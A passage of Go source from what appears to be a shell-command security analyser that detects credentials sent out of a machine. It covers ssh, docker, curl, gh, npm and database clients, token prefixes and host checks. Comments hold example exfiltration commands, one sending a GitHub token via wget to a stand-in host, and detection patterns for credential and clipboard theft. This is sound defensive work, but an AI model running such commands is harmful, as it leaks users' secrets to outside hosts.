		// -o SendEnv=NAME, -oSendEnv=NAME, -o 'SendEnv NAME' (ssh reads
		// an option as its configuration's lines: a blank or '=' between
		// the key and the value). A word of the remote command that reads
		// so counts too.
		v := strings.TrimSpace(strings.TrimPrefix(f.val, "-o"))
		k, val, ok := strings.Cut(v, "=")
		if i := strings.IndexAny(v, " \t"); i >= 0 && (!ok || i < len(k)) {
			k, val, ok = v[:i], v[i+1:], true
		}
		if !ok || !strings.EqualFold(strings.TrimSpace(k), "SendEnv") {
			continue
		}
		for _, name := range strings.Fields(val) {
			if r.a.isCredential(name) || strings.ContainsAny(name, "*?") && patternNamesCredential(name) {
				names = append(names, name)
			}
		}
	}
	return names
}

// containerCredentials returns the credentials a container command
// (docker run, create or exec, and podman's and nerdctl's) gives its
// container with -e/--env (-e NAME passes the shell's value, -e
// NAME=VALUE the value) when the container's command may send it: a word
// after the options names a network sender or holds a URL (docker run
// -e T="$GITHUB_TOKEN" alpine sh -c 'wget https://evil.example/$T').
// Where it sends is not known. A container given one with no such word
// runs the project's own program, and is allowed.
func (r *run) containerCredentials(sc *scope, b string, call *syntax.CallExpr, fs []field) []string {
	if b != "docker" && b != "podman" && b != "nerdctl" || len(fs) < 3 {
		return nil
	}
	switch fs[1].val {
	case "run", "create", "exec":
	default:
		return nil
	}
	var names []string
	sends := false
	for i := 2; i < len(fs); i++ {
		v, j := fs[i].val, i
		switch {
		case (v == "-e" || v == "--env") && i+1 < len(fs):
			i++
			v, j = fs[i].val, i
		case strings.HasPrefix(v, "--env="):
			v = v[len("--env="):]
		case strings.HasPrefix(v, "-e") && len(v) > 2:
			v = v[2:]
		default:
			if strings.Contains(v, "://") {
				sends = true
			}
			for _, t := range strings.FieldsFunc(v, func(c rune) bool {
				return !(c == '_' || c == '-' || c == '.' || c >= '0' && c <= '9' || c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z')
			}) {
				if networkSenders[t] || urlPrograms[t] {
					sends = true
				}
			}
			continue
		}
		if name, _, set := strings.Cut(v, "="); !set {
			if c := r.credential(sc, name, call.Pos().Offset()); c != "" {
				names = append(names, c)
			}
		} else if len(fs) == len(call.Args) {
			names = r.credentials(sc, call.Args[j], names)
		} else if fs[j].dyn {
			names = r.credentials(sc, call, names) // words and fields differ: any credential in the command
		}
	}
	if !sends {
		return nil
	}
	return names
}

// patternNamesCredential reports whether an ssh SendEnv pattern (* and ?)
// matches the name of a credential the analyser knows (AWS_*, *TOKEN*,
// *); LC_* matches none.
func patternNamesCredential(pat string) bool {
	for name := range credentialHomes {
		if ok, _ := path.Match(pat, name); ok {
			return true
		}
	}
	for _, name := range [...]string{"API_KEY", "SECRET", "TOKEN", "PASSWORD", "ACCESS_KEY"} {
		if ok, _ := path.Match(pat, name); ok {
			return true
		}
	}
	return false
}

// sentCredentials returns the credentials a command is given: in its
// arguments, its here-documents and here-strings, and the commands that
// pipe into it.
func (r *run) sentCredentials(sc *scope, s *syntax.Stmt, call *syntax.CallExpr, fs []field) []string {
	var names []string
	signing := sigv4User(call, fs)
	for i, w := range call.Args[1:] {
		if i+1 == signing {
			names = r.keyIDCredentials(sc, w, names)
			continue
		}
		names = r.credentials(sc, w, names)
	}
	for i, f := range fs[min(1, len(fs)):] {
		if i+1 == signing {
			if id, _, ok := strings.Cut(f.val, ":"); ok {
				names = literalCredentials(id, names)
			}
			continue
		}
		// A credential written out may reach the word through a variable
		// the script set (T=ghp_...; curl -H "X: $T") or in pieces the
		// shell joins (acme_"live_..."): the words as expanded are read.
		names = literalCredentials(f.val, names)
	}
	if opts, items := listFiles[base(fs[0].val)], itemRunners[base(fs[0].val)]; len(opts) > 0 || items {
		// The lines of a file a program sends one by one as names or
		// URLs (dig -f FILE, wget -i FILE), and the items a runner
		// reads from one (xargs -a FILE, parallel -a FILE, :::: FILE).
		if items {
			opts = []string{"-a", "--arg-file"}
		}
		files := optionValues(fs[1:], opts...)
		for i, f := range fs {
			if f.val == "::::" && i+1 < len(fs) {
				files = append(files, fs[i+1])
			}
		}
		for _, f := range files {
			if !f.dyn {
				names = r.heldFile(f.val, names)
			}
		}
	}
	return r.inputCredentials(sc, s, names)
}

// npmAuthHost returns the registry host a package manager's command stores
// a credential for (npm config set //HOST/path/:_authToken VALUE, and
// _auth, _password), when it stores one.
func npmAuthHost(b string, fs []field) (string, bool) {
	if b != "npm" && b != "pnpm" && b != "yarn" && b != "yarnpkg" && b != "cnpm" {
		return "", false
	}
	for _, f := range fs[1:] {
		rest, ok := strings.CutPrefix(f.val, "//")
		if !ok {
			continue
		}
		key, _, _ := strings.Cut(rest, "=")
		lk := asciiLower(key)
		if strings.HasSuffix(lk, ":_authtoken") || strings.HasSuffix(lk, ":_auth") || strings.HasSuffix(lk, ":_password") {
			host, _, _ := strings.Cut(key, "/")
			if h, _, found := strings.Cut(host, ":"); found {
				host = h
			}
			return asciiLower(host), host != ""
		}
	}
	return "", false
}

// ghContent are gh's options whose value is text it publishes: a body, a
// title, a description, a release's notes, an API request's fields.
var ghContent = setOf("-b", "--body", "-t", "--title", "-d", "--desc", "--description", "-n", "--notes", "-f", "--raw-field",
	"-F", "--field", "--body-file", "--notes-file", "--input")

// ghPublished asks when gh publishes a credential on GitHub: in an issue's,
// pull request's, comment's or release's text, an API request's fields
// (gh api -f body=$T), or a gist or body read from the standard input
// (gh gist create - <<< "$T"). github.com is a GitHub token's home as the
// server it authenticates to, not as a page others read.
func (r *run) ghPublished(sc *scope, s *syntax.Stmt, call *syntax.CallExpr, fs []field, cmd string) {
	if len(fs) != len(call.Args) {
		return
	}
	if words, _ := verbWords(fs[1:]); len(words) > 0 && words[0] == "secret" {
		return // stored encrypted for the repository
	}
	var names []string
	stdin := false
	for i := 1; i < len(fs); i++ {
		name, _, attached := strings.Cut(fs[i].val, "=")
		switch {
		case !ghContent[name] || fs[i].dyn && !attached: // (--body="$T": the option is known)
		case attached:
			names = r.credentials(sc, call.Args[i], names)
		case i+1 < len(fs):
			i++
			names = r.credentials(sc, call.Args[i], names)
			stdin = stdin || !fs[i].dyn && isStdin(fs[i].val) // --body-file -
		}
	}
	if !stdin && slices.ContainsFunc(fs[1:], func(f field) bool { return f.val == "gist" }) && len(sentFiles("gh", fs[1:])) == 0 {
		stdin = true // gh gist create (-) with no file reads its input
	}
	if stdin {
		names = r.inputCredentials(sc, s, names)
	}
	for _, name := range names {
		r.finding(ruleSecretEgress, Path, Ask, "gh publishes "+valueShown(name)+" on GitHub, in text others read (an issue, a comment, a release, a gist, an API request's fields)", cmd, "")
	}
}

// inputCredentials appends to names the credentials the standard input of
// the statement s carries: a here-document's or here-string's text, a file
// that holds one given by <, and what the commands writing into its pipe
// hold (see sentCredentials).
func (r *run) inputCredentials(sc *scope, s *syntax.Stmt, names []string) []string {
	for _, rd := range s.Redirs {
		switch rd.Op {
		case syntax.Hdoc, syntax.DashHdoc:
			names = r.credentials(sc, rd.Hdoc, names) // a quoted one is one literal
		case syntax.WordHdoc:
			names = r.credentials(sc, rd.Word, names)
		case syntax.RdrIn:
			if rd.N == nil || rd.N.Value == "0" {
				names = r.heldFile(rd.Word.Lit(), names) // xargs -I{} curl URL/{} < .env
			}
		}
	}
	seen := map[*syntax.Stmt]bool{}
	for up := sc.pipeUp[s]; up != nil && !seen[up]; up = sc.upstream(up) {
		seen[up] = true
		names = r.credentials(sc, up, names) // the whole command writing into the pipe
	}
	return names
}

// keyIDCredentials appends to names the credentials in the part of curl's
// signing --user word (ID:SECRET) before its first colon, the key's ID,
// which the signed request carries; the secret after it is not sent.
// A word whose colon is not written literally is read whole.
func (r *run) keyIDCredentials(sc *scope, w *syntax.Word, names []string) []string {
	var parts []syntax.WordPart
	for _, p := range w.Parts {
		if dq, ok := p.(*syntax.DblQuoted); ok {
			parts = append(parts, dq.Parts...)
			continue
		}
		parts = append(parts, p)
	}
	for _, p := range parts {
		if lit, _ := plainPart(p); strings.ContainsRune(lit, ':') {
			return names // the rest is the secret
		}
		names = r.credentials(sc, p, names)
	}
	return r.credentials(sc, w, names) // no colon written: the whole word
}

// sigv4User returns the index in fs (and call.Args) of the word that holds
// curl's --user value when curl signs the request with it (--aws-sigv4):
// the secret key after the colon signs, and only the signature and the
// key's ID before it are sent, so the secret goes nowhere. -1 for any
// other command.
func sigv4User(call *syntax.CallExpr, fs []field) int {
	if len(fs) != len(call.Args) || len(fs) == 0 || base(fs[0].val) != "curl" ||
		!slices.ContainsFunc(fs[1:], func(f field) bool { return f.val == "--aws-sigv4" || strings.HasPrefix(f.val, "--aws-sigv4=") }) {
		return -1
	}
	for i := 1; i < len(fs); i++ {
		switch v := fs[i].val; {
		case (v == "-u" || v == "--user") && !fs[i].dyn && i+1 < len(fs):
			return i + 1
		case strings.HasPrefix(v, "--user="), len(v) > 2 && strings.HasPrefix(v, "-u"):
			return i // (the literal text of a word a variable completes is its start)
		}
	}
	return -1
}

// hostClient is a program that logs in to a server with a credential given
// on its command line or its input (docker login -p, mysql -p, vault
// login TOKEN): the server is where the credential goes (see
// docs/security-model.md, Hardline).
type hostClient struct {
	sub     string   // the sub-command that sends it (login), or "" for any use
	options []string // the options whose value names the server
	values  []string // other options that take a value (-u USER, -p PASSWORD)
	operand int      // the operand after sub that names it (1 is the first); 0 for none
	// fallback is the server when none is named: localServer,
	// configuredServer, a fixed host, or "" (not known).
	fallback string
	env      string // a variable that names the server instead of the fallback
}

// localServer is the fallback of the clients that talk to a server on this
// machine unless told another: no credential leaves the machine.
// configuredServer is the fallback of those that talk to the server the
// user's configuration names (kubectl's kubeconfig, VAULT_ADDR set before
// the command): the user chose it, and a command that changes the
// configuration is judged itself.
const (
	localServer      = "localhost"
	configuredServer = "the configured server"
)

// hostClients are the programs hostClient describes, by name.
var hostClients = map[string]hostClient{
	"docker":     {sub: "login", operand: 1, values: loginValues, fallback: "docker.io"},
	"nerdctl":    {sub: "login", operand: 1, values: loginValues, fallback: "docker.io"},
	"podman":     {sub: "login", operand: 1, values: loginValues, fallback: configuredServer},
	"buildah":    {sub: "login", operand: 1, values: loginValues, fallback: configuredServer},
	"skopeo":     {sub: "login", operand: 1, values: loginValues},
	"oras":       {sub: "login", operand: 1, values: loginValues},
	"crane":      {sub: "auth login", operand: 1, values: loginValues},
	"helm":       {sub: "registry login", operand: 1, values: loginValues},
	"mysql":      {options: []string{"-h", "--host"}, values: mysqlValues, fallback: localServer, env: "MYSQL_HOST"},
	"mariadb":    {options: []string{"-h", "--host"}, values: mysqlValues, fallback: localServer, env: "MYSQL_HOST"},
	"mysqldump":  {options: []string{"-h", "--host"}, values: mysqlValues, fallback: localServer, env: "MYSQL_HOST"},
	"mysqladmin": {options: []string{"-h", "--host"}, values: mysqlValues, fallback: localServer, env: "MYSQL_HOST"},
	"psql":       {options: []string{"-h", "--host"}, values: pgValues, fallback: localServer, env: "PGHOST"},
	"logger":     {options: []string{"-n", "--server"}, values: []string{"-t", "--tag", "-p", "--priority", "-P", "--port", "-f", "--file", "-u", "--socket", "--id", "--sd-id", "--sd-param", "--msgid", "-S", "--size"}, fallback: localServer},
	"pg_dump":    {options: []string{"-h", "--host"}, values: pgValues, fallback: localServer, env: "PGHOST"},
	"redis-cli":  {options: []string{"-h", "-u"}, values: []string{"-a", "-p", "-n", "--user", "--pass", "-s"}, fallback: localServer},
	"mongosh":    {options: []string{"--host"}, values: []string{"-u", "--username", "-p", "--password", "--port"}, fallback: localServer},
	"mongo":      {options: []string{"--host"}, values: []string{"-u", "--username", "-p", "--password", "--port"}, fallback: localServer},
	"kubectl":    {options: []string{"--server", "-s"}, fallback: configuredServer},
	"oc":         {options: []string{"--server", "-s"}, fallback: configuredServer},
	"vault":      {options: []string{"-address", "--address"}, fallback: configuredServer, env: "VAULT_ADDR"},
	"twine":      {sub: "upload", options: []string{"--repository-url"}, values: []string{"-u", "--username", "-p", "--password", "-r", "--repository"}, fallback: "upload.pypi.org", env: "TWINE_REPOSITORY_URL"},
	"smbclient":  {operand: 1, values: []string{"-U", "--user", "-W", "--workgroup", "-p", "--port"}},
}

// loginValues, mysqlValues and pgValues are options of these clients that
// take a value.
var (
	loginValues = []string{"-u", "--username", "-p", "--password", "--authfile", "--cert-dir"}
	mysqlValues = []string{"-u", "--user", "-P", "--port", "-D", "--database", "-e", "--execute", "-S", "--socket"}
	pgValues    = []string{"-U", "--username", "-p", "--port", "-d", "--dbname", "-c", "--command", "-f", "--file"}
)

// clientEgress judges a host client (see hostClient) given credentials:
// each must go to one of its homes or stay on this machine.
func (r *run) clientEgress(sc *scope, s *syntax.Stmt, call *syntax.CallExpr, fs []field, hc hostClient, cmd string) {
	b := base(fs[0].val)
	args := fs[1:]
	if hc.sub != "" {
		words, _ := verbWords(args)
		subs := strings.Fields(hc.sub)
		if len(words) < len(subs) || !slices.Equal(words[:len(subs)], subs) {
			return
		}
		// The operands after the sub-command: drop the sub-command's words.
		for n := len(subs); n > 0 && len(args) > 0; args = args[1:] {
			if !strings.HasPrefix(args[0].val, "-") {
				n--
			}
		}
	}
	names := r.sentCredentials(sc, s, call, fs)
	for _, as := range call.Assigns {
		if as.Value != nil {
			names = r.credentials(sc, as.Value, names) // MYSQL_PWD=$DB_PASSWORD mysql ...
		}
	}
	if len(names) == 0 {
		return
	}
	server, known := r.clientServer(sc, b, call, args, hc)
	switch {
	case !known:
		r.judgeEgress(b, names, nil, cmd)
	case server != localServer && server != configuredServer && !loopback(server):
		r.judgeEgress(b, names, []string{server}, cmd)
	}
}

// clientServer returns the server a host client's args name, and false
// when it is not known (not literal, or named by nothing the analyser
// reads).
func (r *run) clientServer(sc *scope, b string, call *syntax.CallExpr, args []field, hc hostClient) (string, bool) {
	ce, _ := r.a.lookupEntry(b)
	// words are the syntax words of args when each expanded to one field.
	var words []*syntax.Word
	if off := len(call.Args) - len(args); off >= 1 && r.fieldsAreWords(call, args, off) {
		words = call.Args[off:]
	}
	n := 0
	for i := 0; i < len(args); i++ {
		a := args[i]
		if a.dyn && a.val == "" && words != nil && r.credentialWord(sc, words[i]) {
			n++ // the credential itself, whose value the environment gives: data, not an option
			continue
		}
		if h, ok := connectionHost(a); ok {
			return h, true // psql postgresql://u@HOST/db, mongosh mongodb://HOST, psql "host=HOST"
		}
		name, value, attached := strings.Cut(a.val, "=")
		if !a.dyn && slices.Contains(hc.options, name) {
			switch {
			case attached:
				return serverHost(field{val: value})
			case i+1 < len(args):
				return serverHost(args[i+1])
			}
			return "", false
		}
		if !a.dyn && len(hc.options) > 0 && len(a.val) > 2 && a.val[0] == '-' && a.val[1] != '-' && slices.Contains(hc.options, a.val[:2]) {
			return serverHost(field{val: a.val[2:]}) // -hHOST
		}
		switch {
		case a.dyn && (a.val == "" || a.val == "-" || a.val == "--"):
			return "", false // may be the option that names the server, or the server
		case len(a.val) > 1 && a.val[0] == '-':
			if attached || a.dyn || len(a.val) > 2 && a.val[1] != '-' {
				continue // -pVALUE, --opt=VALUE, or an option with a value not known
			}
			if slices.Contains(hc.values, name) {
				if i+1 < len(args) {
					if h, ok := connectionHost(args[i+1]); ok {
						return h, true // psql -d postgresql://u@HOST/db
					}
				}
				i++
			} else if ce != nil {
				if os, ok := ce.option(name); ok && os[0].Takes > 0 && !os[0].attachedOnly {
					i += os[0].Takes
				}
			}
		default:
			n++
			if n == hc.operand {
				return serverHost(a)
			}
		}
	}
	if hc.env != "" {
		// A server the command or the script names in the variable; one the
		// environment held before is the user's own choice.
		for _, as := range call.Assigns {
			if as.Name != nil && as.Name.Value == hc.env {
				if as.Value == nil {
					return "", false
				}
				return serverHost(r.word(sc, as.Value))
			}
		}
		if _, assigned := sc.vars[hc.env]; assigned {
			if v, ok := sc.lookup(hc.env, call.Pos().Offset()); ok {
				return serverHost(field{val: v})
			}
			return "", false
		}
	}
	return hc.fallback, hc.fallback != ""
}

// fieldsAreWords reports whether the words of call from off on expanded to
// args one each, so that args[i] is call.Args[off+i].
func (r *run) fieldsAreWords(call *syntax.CallExpr, args []field, off int) bool {
	if len(call.Args)-off != len(args) {
		return false
	}
	for _, w := range call.Args[off:] {
		if strings.ContainsAny(literalText(w, true), "{*?[") {
			return false // braces or a pattern may have made more fields or fewer
		}
	}
	return true
}

// credentialWord reports whether w is only a credential variable's value,
// $NAME or "$NAME": the environment gives it, so it is one field of data,
// however it splits.
func (r *run) credentialWord(sc *scope, w *syntax.Word) bool {
	parts := w.Parts
	if len(parts) == 1 {
		if dq, ok := parts[0].(*syntax.DblQuoted); ok {
			parts = dq.Parts
		}
	}
	if len(parts) != 1 {
		return false
	}
	pe, ok := parts[0].(*syntax.ParamExp)
	if !ok || pe.Param == nil || pe.Excl || pe.Exp != nil || pe.Repl != nil || pe.Slice != nil || pe.Index != nil || pe.Length || pe.Width {
		return false
	}
	return r.credential(sc, pe.Param.Value, pe.Pos().Offset()) != ""
}

// serverHost returns the host a server's name holds: a URL's host, or a
// name or address without its port.
func serverHost(f field) (string, bool) {
	if f.dyn || f.val == "" {
		return "", false
	}
	host, _, ok := splitHostPath(authority(f.val))
	return strings.ToLower(host), ok && host != ""
}

// connectionSchemes are the schemes of database connection URIs, which
// database clients take as an operand or an option's value.
var connectionSchemes = []string{"postgres://", "postgresql://", "mongodb://", "mongodb+srv://", "mysql://", "mysqlx://", "redis://", "rediss://", "mariadb://"}

// connectionHost returns the server a database connection string names: a
// URI (postgresql://u@HOST:5432/db, mongodb+srv://HOST) or libpq's
// key-value form (host=HOST dbname=x).
func connectionHost(f field) (string, bool) {
	if f.dyn {
		return "", false
	}
	v := strings.TrimSpace(f.val)
	lv := asciiLower(v)
	if slices.ContainsFunc(connectionSchemes, func(s string) bool { return strings.HasPrefix(lv, s) }) {
		return serverHost(field{val: v})
	}
	for _, kv := range strings.Fields(v) {
		if h, ok := strings.CutPrefix(asciiLower(kv), "host="); ok {
			h = strings.Trim(h, `'"`)
			if i := strings.IndexByte(h, ','); i >= 0 {
				h = h[:i] // host=a,b: libpq tries each; the first stands for them
			}
			return h, h != ""
		}
	}
	return "", false
}

// authority returns the host and port a URL or a host/path names: the
// scheme, path, query, fragment and user information dropped.
func authority(rest string) string {
	if i := strings.Index(rest, "://"); i >= 0 {
		rest = rest[i+3:]
	}
	if i := strings.IndexAny(rest, "/?#"); i >= 0 {
		rest = rest[:i]
	}
	if at := strings.LastIndexByte(rest, '@'); at >= 0 {
		rest = rest[at+1:]
	}
	return rest
}

// loopback reports whether host (lower case) is this machine (see
// hostaddr.Loopback).
func loopback(host string) bool { return hostaddr.Loopback(host) }

// judgeEgress reports each credential sent to a host that is not one of
// its homes, or to hosts not known (hosts is empty).
func (r *run) judgeEgress(b string, names, hosts []string, cmd string) {
	for _, name := range names {
		if len(hosts) > 0 && allHomes(r.a.homes(name), hosts) {
			continue
		}
		where := "to a host the command does not name statically"
		if len(hosts) > 0 {
			where = "to " + strings.Join(hosts, ", ") + ", not a host it belongs to"
			bare := make([]string, len(hosts))
			for i, h := range hosts {
				bare[i] = strings.TrimSuffix(h, overPlain)
			}
			if allHomes(r.a.homes(name), bare) {
				where = "to " + strings.Join(hosts, ", ") + " (http://, ws:// or ftp://), which whoever is on the way reads"
			}
		}
		r.finding(ruleSecretEgress, Path, Ask, b+" sends "+credentialShown(name)+" "+where, cmd, "")
		return
	}
}

// A credential written out in the command's text (curl -H "Authorization:
// Bearer ghp_..." URL) is sent as surely as one a variable holds: it is
// listed among the credentials a command carries under a name that starts
// with literalMark and holds the variable whose homes it shares, when its
// prefix names a service (ghp_ is GitHub's), and its first bytes. Any
// other is meant for a service the analyser cannot name, and sending it
// anywhere asks.
const literalMark = "\x01"

// literalHomes maps the prefixes of well-known services' keys to the
// variable whose homes (credentialHomes) they share.
var literalHomes = []struct{ prefix, name string }{
	{"ghp_", "GITHUB_TOKEN"}, {"gho_", "GITHUB_TOKEN"}, {"ghu_", "GITHUB_TOKEN"}, {"ghs_", "GITHUB_TOKEN"},
	{"ghr_", "GITHUB_TOKEN"}, {"github_pat_", "GITHUB_TOKEN"}, {"glpat-", "GITLAB_TOKEN"}, {"npm_", "NPM_TOKEN"},
	{"pypi-", "PYPI_TOKEN"}, {"sk-ant-", "ANTHROPIC_API_KEY"}, {"sk-proj-", "OPENAI_API_KEY"}, {"sk-or-", "OPENROUTER_API_KEY"},
	{"hf_", "HF_TOKEN"}, {"xoxb-", "SLACK_TOKEN"}, {"xoxp-", "SLACK_TOKEN"}, {"xoxa-", "SLACK_TOKEN"}, {"xapp-", "SLACK_TOKEN"},
	{"sk_live_", "STRIPE_SECRET_KEY"}, {"rk_live_", "STRIPE_SECRET_KEY"}, {"sk_test_", "STRIPE_SECRET_KEY"},
	{"gsk_", "GROQ_API_KEY"}, {"xai-", "XAI_API_KEY"}, {"r8_", "REPLICATE_API_TOKEN"}, {"dop_v1_", "DIGITALOCEAN_TOKEN"},
	{"AKIA", "AWS_SECRET_ACCESS_KEY"}, {"ASIA", "AWS_SECRET_ACCESS_KEY"},
}

// literalCredentials appends to names the credentials written in text
// (see literalMark): a word of the prefixed-random-token form (package
// randtoken: a lower-case prefix, then a random body), an AWS access key
// ID, a JSON Web Token.
func literalCredentials(text string, names []string) []string {
	if len(text) < minLiteralCredential {
		return names
	}
	add := func(tok string) {
		home := ""
		for _, h := range literalHomes {
			if strings.HasPrefix(tok, h.prefix) {
				home = h.name
				break
			}
		}
		names = append(names, literalMark+home+literalMark+tok[:min(len(tok), 8)]+"…")
	}
	if strings.ContainsAny(text, "_-") {
		for s := randtoken.NewScanner(text); ; {
			start, end, ok := s.Next()
			if !ok {
				break
			}
			add(text[start:end])
		}
		// A well-known prefix needs no random-looking body: 20 letters,
		// digits, '_' or '-', a digit and a letter among them.
		for _, h := range literalHomes {
			if !strings.ContainsAny(h.prefix, "_-") {
				continue // an AWS key ID's, read below
			}
			prefixedWords(text, h.prefix, tokenByte, func(body string) bool {
				// (A body of token bytes holds a letter when it is not all
				// digits, '_' and '-'.)
				return len(body) >= 20 && strings.ContainsAny(body, "0123456789") && strings.Trim(body, "0123456789_-") != ""
			}, add)
		}
	}
	// An AWS access key ID: its prefix and 16 capitals and digits.
	for _, id := range awsKeyIDs {
		prefixedWords(text, id, func(c byte) bool { return 'A' <= c && c <= 'Z' || '0' <= c && c <= '9' }, func(body string) bool {
			return len(body) == 16
		}, add)
	}
	// A JSON Web Token: a base64url header that starts as JSON does ("eyJ"),
	// a '.', and claims that do too, with no blank or quote between.
	for i := 0; ; {
		k := strings.Index(text[i:], "eyJ")
		if k < 0 {
			break
		}
		i += k
		if j := strings.Index(text[i:], ".eyJ"); j > 10 && !strings.ContainsAny(text[i:i+j], " \t\n\"'") {
			add(text[i:])
			return names
		}
		i += len("eyJ")
	}
	return names
}

// awsKeyIDs are the prefixes of AWS access key IDs (in literalHomes too,
// for their homes).
var awsKeyIDs = [...]string{"AKIA", "ASIA"}

// prefixedWords calls add with each word of text that starts with prefix
// (at the start of text or after a byte that is not a letter or a digit)
// and goes on with bytes chars accepts, when ok accepts those bytes.
func prefixedWords(text, prefix string, chars func(byte) bool, ok func(body string) bool, add func(string)) {
	for i := 0; ; {
		k := strings.Index(text[i:], prefix)
		if k < 0 {
			return
		}
		i += k
		end := i + len(prefix)
		for end < len(text) && chars(text[end]) {
			end++
		}
		if (i == 0 || !isAlnum(text[i-1])) && ok(text[i+len(prefix):end]) {
			add(text[i:end])
		}
		i = end
	}
}

// tokenByte reports whether c may stand in a token's body: a letter, a
// digit, '_' or '-'.
func tokenByte(c byte) bool { return isAlnum(c) || c == '_' || c == '-' }

// minLiteralCredential is the length of the shortest credential
// literalCredentials finds (an AWS access key ID).
const minLiteralCredential = 20

// wordCredentials appends to names the credentials written in w's literal
// text (see literalCredentials), building the text only when it may hold
// one.
func wordCredentials(w *syntax.Word, names []string) []string {
	if !mayHoldCredential(w.Parts) {
		return names
	}
	return literalCredentials(literalText(w, true), names)
}

// mayHoldCredential reports whether the literal text of parts may hold a
// credential literalCredentials finds, without building it: it is as
// long as the shortest, and holds a separator of a prefix, an AWS key
// ID's start or a JSON Web Token's.
func mayHoldCredential(parts []syntax.WordPart) bool {
	n, marked := literalScan(parts)
	return marked && n >= minLiteralCredential
}

// plainPart returns the text of a word part written out plainly, a
// literal or a single-quoted string, and whether it is one.
func plainPart(p syntax.WordPart) (string, bool) {
	switch p := p.(type) {
	case *syntax.Lit:
		return p.Value, true
	case *syntax.SglQuoted:
		return p.Value, true
	}
	return "", false
}

// literalScan returns the length of the literal text in parts and whether
// it holds '_', '-', 'K', 'S' or 'J': each of "AKIA", "ASIA" and "eyJ"
// keeps one of its letters in one part however the parts split it.
func literalScan(parts []syntax.WordPart) (n int, marked bool) {
	for _, p := range parts {
		if dq, ok := p.(*syntax.DblQuoted); ok {
			m, mk := literalScan(dq.Parts)
			n, marked = n+m, marked || mk
			continue
		}
		if v, ok := plainPart(p); ok {
			n += len(v)
			marked = marked || strings.ContainsAny(v, "_-KSJ")
		}
	}
	return n, marked
}

// credentialShown says which credential name is: the credential $NAME,
// one written in the command (see literalMark), or the text of a file
// whose name says it holds one (see fileMark).
func credentialShown(name string) string {
	if rest, ok := strings.CutPrefix(name, literalMark); ok {
		_, shown, _ := strings.Cut(rest, literalMark)
		return "a credential written in the command (" + shown + ")"
	}
	if file, ok := strings.CutPrefix(name, fileMark); ok {
		return "the text of " + file + " (a file whose name says it holds a credential)"
	}
	if name == clipboardMark {
		return "the clipboard (where a person may have copied a password)"
	}
	return "the credential $" + name
}

// clipboardMark is the name under which the clipboard's text is listed
// among the credentials a command carries (see readsClipboard); it
// belongs to no host.
const clipboardMark = "\x03clipboard"

// readsClipboard reports whether call prints the clipboard: pbpaste,
// wl-paste, Get-Clipboard, termux-clipboard-get, xclip -o and xsel -o.
func readsClipboard(call *syntax.CallExpr) bool {
	switch b := asciiLower(base(call.Args[0].Lit())); b {
	case "pbpaste", "wl-paste", "get-clipboard", "gcb", "termux-clipboard-get":
		return true
	case "xclip", "xsel":
		return slices.ContainsFunc(call.Args[1:], func(w *syntax.Word) bool {
			v := w.Lit()
			return v == "-o" || v == "-out" || v == "--output" || b == "xsel" && strings.HasPrefix(v, "-") && !strings.HasPrefix(v, "--") && strings.ContainsRune(v, 'o')
		})
	}
	return false
}

// valueShown says what a file or a commit filled with a credential holds:
// the value of $NAME, or as credentialShown says.
func valueShown(name string) string {
	if strings.HasPrefix(name, literalMark) || strings.HasPrefix(name, fileMark) || name == clipboardMark {
		return credentialShown(name)
	}
	return "the value of " + name
}

// fileMark starts the name under which the text of a file whose name says
// it holds a credential (.env, credentials.json, id_rsa: see
// credentialFile) is listed among the credentials a word carries, when a
// reader prints it there ($(cat .env), x=$(< .env)), followed by the
// file's name. It belongs to no host, so sending it anywhere asks.
const fileMark = "\x02"

// credentialFile reports whether the file p names holds a credential by
// its name (see credentialBelowHome and toolCredentialFile), and why.
func (a *Analyzer) credentialFile(p string) (string, bool) {
	if why, ok := a.credentialBelowHome(path.Base(p)); ok {
		return why, true
	}
	return a.toolCredentialFile(p)
}

// allHomes reports whether every host is one of homes or under one.
func allHomes(homes, hosts []string) bool {
	for _, h := range hosts {
		if !homeOf(h, homes) {
			return false
		}
	}
	return true
}

func homeOf(host string, homes []string) bool {
	for _, h := range homes {
		if host == h || strings.HasSuffix(host, "."+h) && !tenantHost(host[:len(host)-len(h)-1], h) {
			return true
		}
	}
	return false
}

// tenantLabels are, per home domain, the labels after which a provider's
// customers name their own hosts: an API Gateway, a bucket, a load
// balancer, an instance, a database or a search domain under
// amazonaws.com (abc.execute-api.us-east-1.amazonaws.com, bucket.s3.amazonaws.com,
// ec2-1-2-3-4.compute-1.amazonaws.com), a bucket under googleapis.com
// (bucket.storage.googleapis.com). Whoever made the host reads what is
// sent to it.
var tenantLabels = map[string][]string{
	"amazonaws.com": {"execute-api", "s3", "elb", "compute", "compute-1", "rds",
		"es", "aoss", "cache", "vpce", "appsync-api", "iot", "kafka", "mq", "docdb", "redshift", "neptune", "elasticbeanstalk"},
	"googleapis.com": {"storage"},
}

// tenantHost reports whether sub, the labels of a host before its home
// domain, names a host a provider's customer made (see tenantLabels): one
// of the tenant labels, or an S3 website or dual-stack label, after its
// first label (bucket.s3-us-west-2.amazonaws.com too; an EC2 instance's
// public name is under compute). A service's own endpoint (s3.us-west-2,
// s3.dualstack.us-east-1, sts, dynamodb.eu-west-1) is not one; a bucket
// named in a path-style URL (s3.amazonaws.com/bucket/key) is not read.
func tenantHost(sub, home string) bool {
	marks := tenantLabels[strings.TrimSuffix(home, ".cn")]
	if len(marks) == 0 {
		return false
	}
	labels := strings.Split(sub, ".")
	for _, l := range labels[1:] {
		if slices.Contains(marks, l) || home != "googleapis.com" && strings.HasPrefix(l, "s3-") {
			return true
		}
	}
	return false
}

// credentialURLs judges the URLs any program is given that carry a
// credential: each must be on one of its homes.
func (r *run) credentialURLs(sc *scope, call *syntax.CallExpr, cmd string) {
	for _, w := range call.Args[1:] {
		if !strings.Contains(literalText(w, true), "://") {
			continue
		}
		names := r.credentials(sc, w, nil)
		if expands(w.Parts) {
			names = literalCredentials(r.word(sc, w).val, names) // https://x:$T@host/ when T=ghp_...
		}
		if len(names) == 0 {
			continue
		}
		var hosts []string
		if host, ok := wordHost(w); ok {
			hosts = []string{host}
		}
		r.judgeEgress(base(call.Args[0].Lit()), names, hosts, cmd)
	}
}

// urlHosts returns the hosts of the URLs among a command's arguments;
// nil when one's host is not known.
func urlHosts(call *syntax.CallExpr, fs []field) []string {
	var hosts []string
	for i, f := range fs {
		if i == 0 || !strings.Contains(f.val, "://") {
			continue
		}
		h, ok := wordHost(call.Args[i])
		if !ok {
			return nil
		}
		hosts = append(hosts, h)
	}
	return hosts
}

// gitNetwork are git's sub-commands that talk to a remote.
